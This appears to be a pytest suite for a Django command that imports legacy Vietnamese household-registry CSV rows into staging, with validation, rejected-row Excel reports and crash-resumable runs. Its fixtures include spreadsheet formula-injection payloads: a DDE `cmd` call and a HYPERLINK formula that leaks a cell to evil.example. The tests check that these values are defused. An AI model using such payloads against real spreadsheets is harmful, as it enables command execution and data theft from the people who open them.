"""`dancu import`: legacy rows into staging, every rule counted, rejected rows reported, resumable."""

from __future__ import annotations

import atexit
import errno
import importlib
import io
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from dancu.audit.models import AuditEvent, EventType
from dancu.audit.services import Actor
from dancu.collection.models import ImportRun, StagingRecord
from dancu.collection.readers import Row
from dancu.collection.reports import rejected_rows_xlsx
from dancu.collection.services import ImportPolicy, RowChecker, import_rows, import_start
from dancu.collection.workers import WORKERS_FROM_ROWS, issue_json, prepare_batch
from dancu.registry.normalize import check_row, normalize_row
from dancu.registry.rules import IdentifierIndex, RuleContext, registered_identifiers
from tests import conftest
from tests.collection.crash_support import staged_until_killed
from tests.conftest import make_citizen

pytestmark = pytest.mark.django_db

HEADER = "record_id,full_name,gender,birth_date,birth_place,id_number,old_id_number,address"
HOAN_KIEM = '"Số 1 phố Hàng Trống, Phường Hoàn Kiếm, Thành phố Hà Nội"'
DUONG_LIEU = '"Thôn 3, Xã Dương Liễu, Huyện Hoài Đức, Thành phố Hà Nội"'
ROWS = [
    f"R1,nguyễn văn hùng,Nam,17/05/1990,Hà Nội,,,{HOAN_KIEM}",  # clean after repairing the case
    f"R2,Lê Thị Mai,nu,1985,Hà Nội,,,{DUONG_LIEU}",  # year-only birth date, legacy address: fine
    f"R3,Trần Văn 3,Nam,1990,,,,{HOAN_KIEM}",  # digit in a name: rejected
    f"R4,Phạm Văn Nam,Nam,31/02/1990,,,,{HOAN_KIEM}",  # impossible date: rejected
    f"R5,Đỗ Thị Hoa,Nữ,1970,Sao Hỏa,,,{HOAN_KIEM}",  # unknown birth province: warning, waits for review
    f"R6,Vũ Văn Long,Nam,1990,Hà Nội,001190123456,,{HOAN_KIEM}",  # PIN says female: rejected
    f"R7,Hoàng Văn An,Nam,1980,,,1234567,{HOAN_KIEM}",  # CMND of 7 digits: rejected
    f"R8,Bùi Thị Lan,Nữ,=cmd|' /C calc'!A0,,,,{HOAN_KIEM}",  # a formula-looking value: rejected, defused
]


def csv_file(tmp_path: Path, rows: list[str] = ROWS) -> Path:
    path = tmp_path / "so_ho_khau.csv"
    path.write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    return path


def run_import(path: Path, **options: object) -> str:
    out = io.StringIO()
    call_command("import", str(path), source="Sổ hộ khẩu cũ", stdout=out, stderr=io.StringIO(), **options)
    return out.getvalue()


def test_every_row_is_staged_with_its_verdict_and_the_report_counts_by_rule(tmp_path: Path) -> None:
    path = csv_file(tmp_path)
    out = run_import(path)

    run = ImportRun.objects.get()
    assert run.status == ImportRun.Status.DONE
    # Row 2 passes the row rules, but a year alone for a birth date is a warning on the DC01 it becomes:
    # it waits for an officer, and is counted there.
    assert (run.rows_read, run.rows_accepted, run.rows_review, run.rows_rejected) == (8, 1, 2, 5)
    statuses = dict(StagingRecord.objects.values_list("row_number", "status"))
    assert statuses == {
        1: "approved",
        2: "review",
        3: "rejected",
        4: "rejected",
        5: "review",
        6: "rejected",
        7: "rejected",
        8: "rejected",
    }
    first = StagingRecord.objects.get(row_number=1)
    assert first.normalized["full_name"] == "Nguyễn Văn Hùng"
    assert first.normalized["birth_date"] == "1990-05-17"
    assert first.normalized["commune_code"] == conftest.HOAN_KIEM
    assert first.normalized["address"] == HOAN_KIEM.strip('"')
    assert [repair["code"] for repair in first.repairs] == ["repair.case"]
    second = StagingRecord.objects.get(row_number=2)
    assert second.normalized["birth_date"] == "1985"
    assert second.normalized["legacy_commune_code"] == conftest.DUONG_LIEU_LEGACY
    assert "repair.address_units" in {repair["code"] for repair in second.repairs}
    # One catalogue of rules and severities: the codes are registry.rules' own. The report also counts what
    # the DC01 each row for review became found (session 24, h71): a year alone for a birth date on rows 2
    # and 5 (`date.partial`, which is why row 2 waits), and row 5's place of birth registration, which an
    # unknown province of birth leaves blank (`field.required`).
    assert run.issue_counts == {
        "name.digits": 1,
        "date.day_range": 1,
        "date.format": 1,
        "birth_place.unknown": 1,
        "pin.sex_mismatch": 1,
        "cmnd.format": 1,
        "date.partial": 2,
        "field.required": 1,
    }
    assert run.repair_counts["repair.case"] == 1
    assert "rejected: 5" in out
    assert "name.digits" in out


def test_the_rejected_rows_workbook_gives_the_reason_beside_each_row(tmp_path: Path) -> None:
    path = csv_file(tmp_path)
    run_import(path)
    workbook = load_workbook(tmp_path / "so_ho_khau.csv.rejected.xlsx", read_only=True)
    rows = list(workbook.active.iter_rows(values_only=True))
    # Titles and reasons in the reader's language (Vietnamese from the command), each reason led by its
    # column as people read it: the first three titles and the columns' code names were English.
    assert rows[0][:3] == ("Dòng", "Lý do", "Mã quy tắc")
    # Each row by its line in the file (the header is line 1), as the reviewer's editor numbers it.
    assert [r[0] for r in rows[1:]] == [4, 5, 7, 8, 9]
    by_row = {r[0]: r for r in rows[1:]}
    assert by_row[4][2] == "name.digits"
    assert by_row[4][1].startswith("Họ, chữ đệm và tên")
    assert "full_name" not in by_row[4][1]
    assert by_row[7][2] == "pin.sex_mismatch"
    # The formula-looking cell is text in the report, never a formula a reviewer's Excel would run.
    birth_column = rows[0].index("birth_date")
    assert by_row[9][birth_column].startswith("'=")


def test_the_rejected_rows_workbook_speaks_the_readers_language(tmp_path: Path) -> None:
    run_import(csv_file(tmp_path))
    target = tmp_path / "en.xlsx"

    rejected_rows_xlsx(ImportRun.objects.get(), target, language="en")

    rows = list(load_workbook(target, read_only=True).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("Row", "Reasons", "Rule codes")
    by_row = {r[0]: r for r in rows[1:]}
    assert by_row[4][1].startswith("Full name")  # R3, on the file's line 4
    assert "full_name" not in by_row[4][1]


def test_the_rejected_rows_workbook_writes_the_uploaded_header_as_text(tmp_path: Path) -> None:
    # The header names are the uploader's text: one is a formula, one holds a control character (which
    # openpyxl refuses), one a code point XML forbids (which leaves a workbook Excel cannot open).
    formula = '"=HYPERLINK(""http://evil.example/?x=""&D2,""xem"")"'
    path = tmp_path / "hostile.csv"
    path.write_text(
        f"{HEADER},{formula},ghi\x01chu,note\uffff\n"
        f"R1,Ngô Văn Lỗi,Nam,2099-01-01,Hà Nội,,,{HOAN_KIEM},x,y,z\n",
        encoding="utf-8",
    )
    run_import(path)
    workbook = load_workbook(tmp_path / "hostile.csv.rejected.xlsx")
    header = list(next(workbook.active.iter_rows(min_row=1, max_row=1)))
    extra = [(cell.value, cell.data_type) for cell in header[-3:]]
    # Session 24 (h74): the workbook is titled with the file's header cells as written, no longer with the
    # lower-cased names the reader maps them to, so the formula keeps its capitals (defused all the same).
    assert extra == [
        ('\'=HYPERLINK("http://evil.example/?x="&D2,"xem")', "s"),
        ("ghichu", "s"),
        ("note", "s"),
    ]
    assert [cell.value for cell in next(workbook.active.iter_rows(min_row=2, max_row=2))][-3:] == [
        "x",
        "y",
        "z",
    ]


def test_importing_the_same_file_again_writes_nothing_twice(tmp_path: Path) -> None:
    path = csv_file(tmp_path)
    run_import(path)
    run_import(path)
    assert ImportRun.objects.count() == 1
    assert StagingRecord.objects.count() == len(ROWS)
    assert AuditEvent.objects.filter(event_type=EventType.IMPORT_STARTED).count() == 1


def test_clean_rows_wait_for_review_when_the_policy_says_so(tmp_path: Path) -> None:
    run_import(csv_file(tmp_path), review_everything=True)
    assert not StagingRecord.objects.filter(status="approved").exists()
    assert StagingRecord.objects.filter(status="review").count() == 3


def test_the_setting_turns_auto_approval_off(tmp_path: Path, settings: Any) -> None:
    settings.DANCU_IMPORT_AUTO_APPROVE = False
    run_import(csv_file(tmp_path))
    assert not StagingRecord.objects.filter(status="approved").exists()
    assert StagingRecord.objects.filter(status="review").count() == 3


def test_numbers_already_in_the_registry_or_earlier_in_the_file_are_refused_naming_the_first(
    tmp_path: Path,
) -> None:
    known = make_citizen(full_name="Nguyễn Văn Hùng", old_id_number="012345678")
    rows = [
        f"R1,Nguyễn Văn Hùng,Nam,1990-05-17,,{known.pin},,{HOAN_KIEM}",
        f"R2,Nguyễn Văn Hùng,Nam,1990-05-17,,,012345678,{HOAN_KIEM}",
        f"R3,Lê Văn Tư,Nam,1960,,,987654321,{HOAN_KIEM}",
        f"R4,Lê Văn Tư,Nam,1960,,,987654321,{HOAN_KIEM}",
        f",Lê Văn Tư,Nam,1960,,,987654321,{HOAN_KIEM}",
    ]
    # One row per batch: the file's earlier rows are found among the run's staged rows, not in memory,
    # which is also how a resumed import finds the rows of the session that crashed.
    run_import(csv_file(tmp_path, rows), batch_size=1)
    records = {r.row_number: r for r in StagingRecord.objects.all()}
    assert "pin.duplicate" in {i["code"] for i in records[1].issues}
    assert {i["code"] for i in records[2].issues} == {"cmnd.duplicate"}
    assert records[3].issues == []
    assert [i["code"] for i in records[4].issues] == ["cmnd.duplicate_in_batch"]
    assert "R3" in records[4].issues[0]["message_en"]
    assert "R3" in records[5].issues[0]["message_vi"]
    # Row 3 passes the row rules; its year-only birth date sends its DC01 to an officer.
    assert [records[n].status for n in range(1, 6)] == [
        "rejected",
        "rejected",
        "review",
        "rejected",
        "rejected",
    ]


def test_the_checker_normalizes_rows_itself_when_given_none(tmp_path: Path) -> None:
    """The import hands the checker rows its workers prepared; a caller with raw rows alone gets the same
    verdicts, prepared by the checker."""
    make_citizen(full_name="Nguyễn Văn Hùng", old_id_number="012345678")
    run, _source = import_start(path=csv_file(tmp_path), source_name="Sổ cũ", actor=Actor(system="test"))
    columns = HEADER.split(",")
    values = [
        ["R1", "nguyễn văn hùng", "Nam", "17/05/1990", "Hà Nội", "", "", HOAN_KIEM.strip('"')],
        ["R2", "Trần Văn Hai", "Nam", "1990", "", "", "012345678", HOAN_KIEM.strip('"')],
    ]
    rows = [Row(number=n, values=dict(zip(columns, cells, strict=True))) for n, cells in enumerate(values, 1)]
    checker = RowChecker(run=run)

    checked = checker.check(rows)

    given = prepare_batch(
        (row.values for row in rows),
        today=checker.today,
        address_parser=checker.address_parser,
        units=checker.units,
    )
    assert checked == checker.check(rows, given)
    assert checked[0].normalized["full_name"] == "Nguyễn Văn Hùng"
    assert [issue["code"] for issue in checked[1].issues] == ["cmnd.duplicate"]


def test_duplicates_found_after_the_rows_are_prepared_sit_where_the_rules_put_them(tmp_path: Path) -> None:
    """The workers check each row alone and the importing process looks its numbers up afterwards, in file
    order (`collection.workers.PreparedRow`): every row's issues, duplicates included, are those the rules
    give a row checked with the rows before it, in the same order, with the same messages."""
    make_citizen(full_name="Nguyễn Văn Hùng", old_id_number="012345678")
    run, _source = import_start(path=csv_file(tmp_path), source_name="Sổ cũ", actor=Actor(system="test"))
    columns = HEADER.split(",")
    hoan_kiem = HOAN_KIEM.strip('"')
    values = [
        ["A1", "Lê Văn Tư", "Nam", "1990", "Hà Nội", "001090123456", "", hoan_kiem],
        # A warning before the PIN's issues and an error after them; the duplicate goes between.
        ["A2", "Lê Văn Tư", "Nam", "1990", "Sao Hỏa", "001090123456", "", "Xã Không Có, Tỉnh Sao Hỏa"],
        # The PIN disagrees with the sex, and is a duplicate too; the CMND is the registry's and the file's.
        ["", "Lê Thị Tư", "Nữ", "1990", "Hà Nội", "001090123456", "012345678", hoan_kiem],
        ["A4", "Lê Văn Năm", "Nam", "1991", "", "", "012345678", hoan_kiem],
        # A malformed PIN is not looked up, and one of a row whose PIN could not be read is not reported.
        ["A5", "Lê Văn Sáu", "Nam", "1991", "", "00109012345", "", hoan_kiem],
        ["A6", "Lê Văn Bảy", "Nam", "1990", "", "0010901234５6", "", hoan_kiem],
    ]
    rows = [
        Row(number=n, values=dict(zip(columns, cells, strict=True)), line=n + 1)
        for n, cells in enumerate(values, 1)
    ]
    checker = RowChecker(run=run)

    checked = checker.check(rows)

    taken_pins, taken_cmnds = registered_identifiers(
        pins={cells[5] for cells in values}, cmnds={cells[6] for cells in values}
    )
    context = RuleContext(
        today=checker.today,
        pins=IdentifierIndex(taken_pins),
        cmnds=IdentifierIndex(taken_cmnds),
        units=checker.units,
    )
    expected = []
    for row in rows:
        alone = normalize_row(row.values, today=checker.today, address_parser=checker.address_parser)
        alone.record_id = alone.record_id or f"#{row.line}"
        expected.append([issue_json(issue) for issue in check_row(alone, context=context).issues])
    assert [result.issues for result in checked] == expected
    codes = [[issue["code"] for issue in issues] for issues in expected]
    assert "pin.duplicate_in_batch" in codes[1]
    assert codes[1].index("birth_place.unknown") < codes[1].index("pin.duplicate_in_batch")
    assert {"pin.sex_mismatch", "pin.duplicate_in_batch", "cmnd.duplicate"} <= set(codes[2])
    assert {"cmnd.duplicate", "cmnd.duplicate_in_batch"} <= set(codes[3])
    # The row without an id is named by its line in the file.
    assert any("#4" in issue["message_en"] for issue in expected[3])
    assert not any("duplicate" in code for code in codes[4] + codes[5])


def test_identifiers_of_any_length_are_refused_by_their_rule_and_the_import_goes_on(tmp_path: Path) -> None:
    rows = [
        f"R1,Lê Văn Tư,Nam,1960,,{'1' * 40},{'2' * 30},{HOAN_KIEM}",
        f"R2,Lê Văn Năm,Nam,1961,,,,{HOAN_KIEM}",
    ]
    run_import(csv_file(tmp_path, rows))
    first = StagingRecord.objects.get(row_number=1)
    assert {issue["code"] for issue in first.issues} == {"pin.format", "cmnd.format"}
    assert (first.id_number, first.old_id_number) == ("", "")
    # Row 2 passes the row rules (its year-only birth date then sends its DC01 to an officer).
    assert StagingRecord.objects.get(row_number=2).status == "review"


@pytest.mark.slow
def test_a_nul_character_past_the_files_start_rejects_its_row_only(tmp_path: Path) -> None:
    # The first 64 KB decide whether the file is text; a NUL further on damages one row, not the import.
    rows = [f"R{i},Lê Văn Tư,Nam,1960,,,,{HOAN_KIEM}" for i in range(1, 1201)]
    rows.append(f"R9999,Lê Văn\x00 Tư,Nam,1960,,,,{HOAN_KIEM}")
    path = csv_file(tmp_path, rows)
    assert path.stat().st_size > 64 * 1024
    run_import(path)
    last = StagingRecord.objects.get(row_number=1201)
    assert last.status == "rejected"
    assert "row.nul" in {issue["code"] for issue in last.issues}
    assert "\x00" not in last.raw["full_name"]
    assert ImportRun.objects.get().rows_read == 1201


def test_backslashes_tabs_and_line_breaks_in_cells_are_staged_as_they_were(tmp_path: Path) -> None:
    # On PostgreSQL the staged rows go in through COPY's text format, which gives these characters a
    # meaning of their own.
    rows = ['R1,"Lê Văn\\N Tư",Nam,1960,,,,"Số 1\tngõ 2\nThôn 3\\4, Xã Dương Liễu, Huyện Hoài Đức, Hà Nội"']
    run_import(csv_file(tmp_path, rows))
    staged = StagingRecord.objects.get()
    assert staged.raw["full_name"] == "Lê Văn\\N Tư"
    assert staged.raw["address"] == "Số 1\tngõ 2\nThôn 3\\4, Xã Dương Liễu, Huyện Hoài Đức, Hà Nội"
    assert staged.normalized["commune_code"]


def test_an_unreadable_file_stops_the_command_naming_the_rule(tmp_path: Path) -> None:
    path = tmp_path / "dump.bin"
    path.write_bytes(b"\x00\x01binary")
    with pytest.raises(CommandError, match=r"file\.binary"):
        run_import(path)
    assert not ImportRun.objects.exists()


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"batch_size": 0}, "--batch-size must be from 1 to 50,000, not 0"),
        ({"batch_size": 50_001}, "--batch-size must be from 1 to 50,000, not 50001"),
        # Past sys.maxsize the batching stopped with a ValueError, after the run was made.
        ({"batch_size": 99999999999999999999}, "--batch-size must be from 1 to 50,000"),
        ({"workers": -1}, "--workers must be from 0 to 32, not -1"),
        # The workers are all forked at once.
        ({"workers": 33}, "--workers must be from 0 to 32, not 33"),
        ({"workers": 10**20}, "--workers must be from 0 to 32"),
    ],
)
def test_out_of_range_numbers_are_refused_before_a_run_is_made(
    tmp_path: Path, options: dict[str, int], message: str
) -> None:
    with pytest.raises(CommandError, match=message):
        run_import(csv_file(tmp_path), **options)
    assert not ImportRun.objects.exists()


def _rejected_target(tmp_path: Path, where: str) -> Path:
    return {
        "no folder": tmp_path / "nowhere" / "x.xlsx",
        "a folder": tmp_path,
        "the input": tmp_path / "so_ho_khau.csv",
        "a file of /proc": Path("/proc/version"),
    }[where]


@pytest.mark.parametrize(
    ("where", "rule"),
    [
        ("no folder", "output.no_folder"),
        ("a folder", "output.directory"),
        ("the input", "output.is_input"),
        # It opens for reading and, as root, passes every permission test; only a write says no.
        ("a file of /proc", "output.not_writable"),
    ],
)
def test_a_rejected_rows_target_that_cannot_be_written_is_refused_before_the_import(
    tmp_path: Path, where: str, rule: str
) -> None:
    path = csv_file(tmp_path)
    before = path.read_bytes()
    target = _rejected_target(tmp_path, where)
    with pytest.raises(
        CommandError, match=rf"--rejected-xlsx {re.escape(str(target))}.*\[{re.escape(rule)}\]"
    ):
        run_import(path, rejected_xlsx=target, stage_only=True)
    assert not ImportRun.objects.exists()
    assert path.read_bytes() == before


def test_a_report_that_fails_as_it_is_written_is_named_and_the_run_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    command = importlib.import_module("dancu.collection.management.commands.import")

    def disk_full(run: ImportRun, path: Path) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(command, "rejected_rows_xlsx", disk_full)
    target = tmp_path / "rejected.xlsx"
    with pytest.raises(CommandError) as refused:
        run_import(csv_file(tmp_path), rejected_xlsx=target)
    run = ImportRun.objects.get()
    message = str(refused.value)
    assert f"--rejected-xlsx {target}: cannot be written (No space left on device)" in message
    assert f"import run #{run.pk} is saved in the database" in message
    assert run.status == ImportRun.Status.DONE
    assert StagingRecord.objects.count() == len(ROWS)


@pytest.mark.parametrize("kind", ["directory", "device", "pipe"])
def test_a_file_that_is_not_a_regular_file_is_refused_as_such(tmp_path: Path, kind: str) -> None:
    if kind == "directory":
        path = tmp_path / "folder"
        path.mkdir()
    elif kind == "device":
        path = Path("/dev/null")
    else:
        path = tmp_path / "pipe"
        os.mkfifo(path)
    with pytest.raises(
        CommandError, match=rf"{re.escape(str(path))}: \[file\.not_regular\] .* is not a regular"
    ):
        run_import(path)
    with pytest.raises(CommandError, match=r"\[file\.missing\] .* No such file"):
        run_import(tmp_path / "nowhere.csv")
    assert not ImportRun.objects.exists()


@pytest.mark.parametrize("source", ["a\x01b", "Sổ hộ khẩu\ncũ", "Sổ\u202ecũ", "Sổ\x00cũ"])
def test_a_source_name_with_control_characters_is_refused(tmp_path: Path, source: str) -> None:
    with pytest.raises(CommandError, match=r"--source: \[source\.control_chars\] .*U\+"):
        call_command("import", str(csv_file(tmp_path)), source=source, stdout=io.StringIO())
    assert not ImportRun.objects.exists()


def test_a_run_interrupted_between_batches_continues_where_it_stopped(tmp_path: Path) -> None:
    rows = [f"R{i},Người Thứ {chr(65 + i % 26)},Nam,19{50 + i % 50},,,,{HOAN_KIEM}" for i in range(1, 51)]
    path = csv_file(tmp_path, rows)
    actor = Actor(system="test")
    run, source = import_start(path=path, source_name="Sổ cũ", actor=actor)

    staged_until_killed(rows=20, run=run, source=source, actor=actor, batch_size=10)
    assert StagingRecord.objects.count() == 20

    run, source = import_start(path=path, source_name="Sổ cũ", actor=actor)
    assert run.rows_read == 20
    import_rows(run=run, source=source, actor=actor, policy=ImportPolicy(), batch_size=10)
    numbers = sorted(StagingRecord.objects.values_list("row_number", flat=True))
    assert numbers == list(range(1, 51))


def test_numbers_staged_before_an_interruption_are_duplicates_after_the_import_resumes(
    tmp_path: Path,
) -> None:
    """The resumed process knows the numbers the killed one staged (`RowChecker._maybe_staged` reads them
    when it starts), so a row after the crash that repeats one of them is refused naming the first."""
    rows = [
        f"R{i},Người Thứ {chr(65 + i % 26)},Nam,1990,,0010901{i:05d},01234{i:04d},{HOAN_KIEM}"
        for i in range(1, 31)
    ]
    rows[24] = f"R25,Người Lặp Lại,Nam,1990,,001090100005,012340007,{HOAN_KIEM}"
    path = csv_file(tmp_path, rows)
    actor = Actor(system="test")
    run, source = import_start(path=path, source_name="Sổ cũ", actor=actor)
    staged_until_killed(rows=20, run=run, source=source, actor=actor, batch_size=10)

    run, source = import_start(path=path, source_name="Sổ cũ", actor=actor)
    import_rows(run=run, source=source, actor=actor, policy=ImportPolicy(), batch_size=10)

    repeated = StagingRecord.objects.get(run=run, row_number=25)
    codes = {issue["code"]: issue["message_en"] for issue in repeated.issues}
    assert codes.keys() == {"pin.duplicate_in_batch", "cmnd.duplicate_in_batch"}
    assert "R5" in codes["pin.duplicate_in_batch"]
    assert "R7" in codes["cmnd.duplicate_in_batch"]
    assert repeated.status == StagingRecord.Status.REJECTED


def test_only_a_number_the_run_may_have_staged_is_looked_up_among_its_rows(tmp_path: Path) -> None:
    """Numbers the run never staged cost no probe of its staged rows; a batch that repeats one the run
    staged costs one query more, and finds the row that carried it."""
    rows = [f"R{i},Người Thứ {chr(65 + i)},Nam,1990,,0010901{i:05d},,{HOAN_KIEM}" for i in range(1, 6)]
    run_import(csv_file(tmp_path, rows))
    run = ImportRun.objects.get()
    columns, address = HEADER.split(","), HOAN_KIEM.strip('"')

    def batch(first: int, pin: str | None = None) -> list[Row]:
        numbers = [pin or f"0010902{first:05d}", f"0010902{first + 1:05d}"]
        return [
            Row(
                number=first + n,
                values=dict(
                    zip(
                        columns,
                        [f"N{first + n}", "Lê Văn Tư", "Nam", "1990", "", number, "", address],
                        strict=True,
                    )
                ),
            )
            for n, number in enumerate(numbers)
        ]

    checker = RowChecker(run=run)
    checker.check(batch(10))  # the checker reads what the run staged once, here

    def queries(rows: list[Row]) -> tuple[int, list[Any]]:
        with CaptureQueriesContext(connection) as captured:
            checked = checker.check(rows)
        return len(captured.captured_queries), checked

    fresh, _ = queries(batch(20))
    repeated, checked = queries(batch(30, pin="001090100003"))
    assert repeated == fresh + 1
    assert [issue["code"] for issue in checked[0].issues] == ["pin.duplicate_in_batch"]
    assert "R3" in checked[0].issues[0]["message_en"]
    assert not [issue for issue in checked[1].issues if "duplicate" in issue["code"]]


# The databases `migrated_cli` copies, one migrated and one with the units as well, made by the first test
# of the process that asks for each: migrating in a new process and loading the units take some 25 s on a
# slow machine, and a dozen tests of each pass asked for them anew.
_CLI_TEMPLATES: dict[bool, dict[str, str]] = {}


def _cli_template(env: dict[str, str], dancu: list[str], url: str, *, units: bool) -> dict[str, str]:
    """The environment of a database migrated (and given the units) once for the test process: a SQLite
    file in a directory of its own, or a database on the PostgreSQL server of `url`."""
    if units in _CLI_TEMPLATES:
        return _CLI_TEMPLATES[units]
    template_dir = Path(tempfile.mkdtemp(prefix="dancu-cli-template-"))
    atexit.register(shutil.rmtree, template_dir, ignore_errors=True)
    template = env | {"DANCU_VAR_DIR": str(template_dir)}
    if url.startswith("postgres"):
        template["DANCU_DATABASE_URL"] = _new_database(url, f"dancu_cli_template_{os.getpid()}_{int(units)}")
    subprocess.run([*dancu, "migrate", "-v0"], env=template, check=True, timeout=300)  # noqa: S603 - our CLI
    if units:
        subprocess.run([*dancu, "load_units", "-v0"], env=template, check=True, timeout=300)  # noqa: S603
    _CLI_TEMPLATES[units] = template
    return template


def _new_database(url: str, name: str, *, template: str = "") -> str:
    """A new database on the server of `url` (a copy of `template` when named), and its URL."""
    import psycopg

    copy = f' TEMPLATE "{template}"' if template else ""
    with psycopg.connect(url, autocommit=True, connect_timeout=5) as db:
        db.execute(f'CREATE DATABASE "{name}"{copy}')
    return f"{url.rsplit('/', 1)[0]}/{name}"


def migrated_cli(var_dir: Path, *, units: bool = True) -> tuple[dict[str, str], list[str]]:
    """The environment and command line of `dancu` in a process of its own, on a migrated database of its
    own with the administrative units loaded (as `dancu setup` leaves it; `units=False`: as `dancu migrate`
    alone does): a SQLite file under `var_dir`, or a new database on the PostgreSQL server the test run
    uses (tests running side by side, -n auto, must not migrate, count or read each other's rows).

    Each is a copy of the test process's template (`_cli_template`), which `dancu migrate` and
    `dancu load_units` made in processes of their own: the file copied, or the database made with the
    template as PostgreSQL's `CREATE DATABASE ... TEMPLATE` copies one."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("DANCU_")} | {
        "DANCU_VAR_DIR": str(var_dir)
    }
    url = os.environ.get("DANCU_DATABASE_URL", "")
    dancu = [sys.executable, "-m", "dancu.cli"]
    template = _cli_template(env, dancu, url, units=units)
    if url.startswith("postgres"):
        env["DANCU_DATABASE_URL"] = _new_database(
            url, f"dancu_cli_{time.time_ns()}", template=template["DANCU_DATABASE_URL"].rsplit("/", 1)[1]
        )
    else:
        # The template's process ended, so its write-ahead log was checkpointed into the file; any file
        # of it left beside is copied too.
        for part in Path(template["DANCU_VAR_DIR"]).glob("dancu.sqlite3*"):
            shutil.copyfile(part, var_dir / part.name)
    return env, dancu


def _query(env: dict[str, str], sql: str) -> tuple:
    """Read the subprocess's database directly: SQLite file or PostgreSQL, as the run is configured."""
    url = env.get("DANCU_DATABASE_URL", "")
    if url.startswith("postgres"):
        import psycopg

        with psycopg.connect(url, connect_timeout=5) as db:
            return db.execute(sql).fetchone() or ()
    with sqlite3.connect(Path(env["DANCU_VAR_DIR"]) / "dancu.sqlite3", timeout=1) as db:
        return db.execute(sql).fetchone() or ()


def _rows_read(env: dict[str, str]) -> int:
    try:
        row = _query(env, "SELECT rows_read FROM collection_importrun")
    except Exception:
        # The table does not exist yet while the subprocess migrates and starts.
        return 0
    return row[0] if row else 0


def _children(pid: int) -> list[int]:
    """The processes whose parent is `pid` (Linux /proc)."""
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            # The command name in parentheses may hold spaces: the fields after it are split from its end.
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue  # a process that ended while the list was read
        if int(fields[1]) == pid:
            found.append(int(stat.parent.name))
    return found


@pytest.mark.slow
def test_an_import_into_a_database_without_its_units_is_refused_before_any_row(tmp_path: Path) -> None:
    # Without the units every address maps to no commune: the whole book would be rejected, and the run,
    # finished, would be resumed as finished (nothing read again) once `dancu setup` had loaded them.
    env, dancu = migrated_cli(tmp_path, units=False)
    path = csv_file(tmp_path, ["R1,Nguyễn Văn An,Nam,1990,,,,"])

    refused = subprocess.run(  # noqa: S603 - our own CLI
        [*dancu, "import", str(path), "--source", f"Sổ cũ {time.time_ns()}"],
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )

    assert refused.returncode == 1
    assert (
        "Chưa nạp đơn vị hành chính: hãy chạy dancu setup trước / "
        "administrative units are not loaded: run dancu setup first"
    ) in refused.stderr
    assert _query(env, "SELECT COUNT(*) FROM collection_importrun") == (0,)
    assert _query(env, "SELECT COUNT(*) FROM collection_stagingrecord") == (0,)


@pytest.mark.slow
def test_killing_the_process_mid_import_then_running_it_again_loses_and_doubles_nothing(
    tmp_path: Path,
) -> None:
    # The import runs in a real process on the run's database server (a SQLite file, or the PostgreSQL
    # database that scripts/with-postgres created next to the test database), and is killed with SIGKILL.
    env, dancu = migrated_cli(tmp_path)
    # Enough rows for the import to start its worker, killed once 2,000 are read: the rest is seconds of work
    # even on a fast machine.
    total = WORKERS_FROM_ROWS + 2_000
    rows = [f"R{i},Người Thứ {chr(65 + i % 26)},Nam,19{50 + i % 50},,,," for i in range(1, total + 1)]
    path = csv_file(tmp_path, rows)
    # A source name of its own: the database outlives this test on PostgreSQL.
    source = f"Sổ cũ {time.time_ns()}"

    command = [*dancu, "import", str(path), "--source", source, "--batch-size", "500"]
    # With a worker normalizing rows beside the importing process, whatever the machine's cores.
    env["DANCU_IMPORT_WORKERS"] = "1"
    process = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # noqa: S603
    deadline = time.monotonic() + 120
    while _rows_read(env) < 2000 and time.monotonic() < deadline and process.poll() is None:
        time.sleep(0.05)
    workers = _children(process.pid)
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    interrupted_at = _rows_read(env)
    assert 0 < interrupted_at < total, "the import was not caught in the middle"
    assert len(workers) == 1
    # The worker leaves with the process it worked for, instead of waiting for batches for ever.
    deadline = time.monotonic() + 30
    while any(Path(f"/proc/{pid}").exists() for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(Path(f"/proc/{pid}").exists() for pid in workers), "a worker outlived the import"

    finished = subprocess.run(  # noqa: S603 - our own CLI
        command, env=env, capture_output=True, text=True, timeout=300, check=False
    )
    assert finished.returncode == 0, finished.stderr
    assert f"resuming after row {interrupted_at:,}" in finished.stderr
    count, low, high, distinct = _query(
        env,
        "SELECT COUNT(*), MIN(row_number), MAX(row_number), COUNT(DISTINCT row_number)"
        " FROM collection_stagingrecord",
    )
    (read,) = _query(env, "SELECT rows_read FROM collection_importrun")
    assert (count, low, high, distinct, read) == (total, 1, total, total, total)
